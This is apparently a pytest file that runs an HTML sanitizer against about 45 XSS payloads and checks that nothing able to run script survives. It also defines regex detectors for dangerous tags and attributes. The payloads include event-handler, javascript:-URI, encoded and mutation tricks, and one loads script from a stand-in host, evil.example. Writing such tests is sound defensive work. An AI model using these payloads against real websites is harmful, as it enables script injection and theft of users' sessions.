"""The sanitizer against a corpus of XSS payloads: nothing that runs script survives."""
import re

import pytest

from app.tickets.sanitize import html_to_text, prepare_body, sanitize_html, text_to_html

XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<img src=`javascript:alert(1)`>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<a href=\"  javascript:alert(1)\">click</a>",
    "<a href=\"java&#x09;script:alert(1)\">tab</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"JAVASCRIPT:alert(1)\">caps</a>",
    "<a href=\"vbscript:msgbox(1)\">vb</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<p style=\"behavior:url(x.htc)\">x</p>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<form action=\"javascript:alert(1)\"><button>go</button></form>",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<base href=\"javascript:alert(1)//\">",
    "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
    "<a href=\"#\" onclick=\"alert(1)\">x</a>",
    "<b onmouseover=alert(1)>bold</b>",
    "<p/onmouseover=alert(1)>x</p>",
    "<scr<script>ipt>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<a href=\"http://ok.example\" target=_blank>ok</a><script>x</script>",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<template><script>alert(1)</script></template>",
    "<a href=\"jav\u0000ascript:alert(1)\">nul</a>",
]

BAD_TAG = re.compile(r"^<\s*/?\s*(script|iframe|object|embed|style|link|meta|base|form|input|"
                     r"svg|math|body|video|source|marquee|details|template|noscript|xmp)\b",
                     re.IGNORECASE)
BAD_ATTRIBUTE = re.compile(r"\son\w+\s*=|javascript:|vbscript:|data:|srcdoc|style\s*=",
                           re.IGNORECASE)


def dangers(markup: str) -> list[str]:
    """Tags that could run script, judged tag by tag (escaped text is just text)."""
    return [tag for tag in re.findall(r"<[^<>]*>", markup)
            if BAD_TAG.search(tag) or BAD_ATTRIBUTE.search(tag)]


@pytest.mark.parametrize("payload", XSS)
def test_payload_is_defused(payload):
    clean = sanitize_html(payload)
    assert not dangers(clean), clean
    # Through the body pipeline, declared as HTML or as typed text, it is harmless too.
    for body_format in ("html", "text"):
        safe, _text = prepare_body(payload, body_format=body_format)
        assert not dangers(safe), (body_format, safe)


def test_dangers_detector_itself_works():
    assert dangers('<img src=x onerror="alert(1)">') and dangers("<script>")
    assert not dangers("&lt;script&gt; <b>ok</b>")


def test_formatting_and_safe_links_survive():
    clean = sanitize_html('<p>Hi <b>there</b>, see <a href="https://docs.example/x">docs</a>'
                          '<ul><li>one</li></ul></p>')
    assert "<b>there</b>" in clean and "<li>one</li>" in clean
    assert 'href="https://docs.example/x"' in clean
    assert 'rel="noopener noreferrer nofollow"' in clean


def test_plain_text_is_escaped_into_paragraphs():
    assert text_to_html("a < b & c\nnext\n\nsecond") == \
        "<p>a &lt; b &amp; c<br>next</p><p>second</p>"
    safe, text = prepare_body("5 <three> 7", body_format="text")
    assert safe == "<p>5 &lt;three&gt; 7</p>" and text == "5 <three> 7"


def test_text_extraction_for_search():
    assert html_to_text("<p>Hello&nbsp;<b>world</b></p><p>Line&amp;two</p>") == \
        "Hello\xa0world\nLine&two"
